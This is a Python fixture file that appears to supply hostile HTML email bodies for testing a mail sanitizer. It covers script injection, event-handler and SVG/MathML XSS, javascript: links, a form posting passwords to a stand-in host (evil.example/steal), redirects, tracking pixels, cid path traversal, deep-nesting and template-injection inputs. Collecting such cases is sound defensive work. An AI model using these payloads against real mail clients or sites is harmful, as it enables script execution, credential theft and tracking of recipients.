"""Bodies of mails that were made to do harm, each by its kind."""

from __future__ import annotations

EVIL = "http://evil.example"
RUN = "alert(1);top.harmed=1;parent.harmed=1"

HARM = {
    "script": f"<script>{RUN}</script><script src={EVIL}/x.js></script><p onclick='{RUN}'>words</p>",
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt><noscript><p title='</noscript><script>{RUN}</script>'>",
    "handlers": f"<img src=x onerror='{RUN}'><body onload='{RUN}'><details open ontoggle='{RUN}'>"
    f"<input autofocus onfocus='{RUN}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'><base href='{EVIL}/' target=_top><p>words</p>",
    "form": f"<form action='{EVIL}/steal' method=post><input name=password><button>Go on</button></form>",
    "frames": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script><image href='{EVIL}/s.png'/>"
    f"<foreignObject><iframe src='{EVIL}'/></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    "css": f"<style>@import url('{EVIL}/a.css');body{{background:url({EVIL}/b.png)}}</style>"
    f"<p style=\"background:url('{EVIL}/c.png');position:fixed;inset:0\">words</p>"
    f"<link rel=stylesheet href='{EVIL}/d.css'>",
    "pixel": f"<img src='{EVIL}/pixel.gif' width=1 height=1><img srcset='{EVIL}/2x.png 2x'>"
    f"<picture><source srcset='{EVIL}/w.webp'></picture>"
    f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video>"
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    "cid": "<img src='cid:logo@inside'><img src='cid:../../../owner'><a href='cid:x'>words</a>",
    "links": f"<a href='javascript:{RUN}'>one</a><a href='data:text/html,<script>{RUN}</script>'>two</a>"
    f"<a href='vbscript:x'>three</a><a href='{EVIL}/' target=_top ping='{EVIL}/ping'>four</a>",
    "quote of the frame": f'"></iframe><script>{RUN}</script>'
    f'<iframe srcdoc="&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;',
    "end of the page": f"</body></html></iframe></article></main><h1>Your session has ended</h1><script>{RUN}</script>",
    "hints": f"<link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='{EVIL}'>"
    f"<link rel=prefetch href='{EVIL}/x'>",
    "nesting": "<div>" * 20_000 + "deep" + "</div>" * 20_000,
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} <%= 7*7 %>",
}
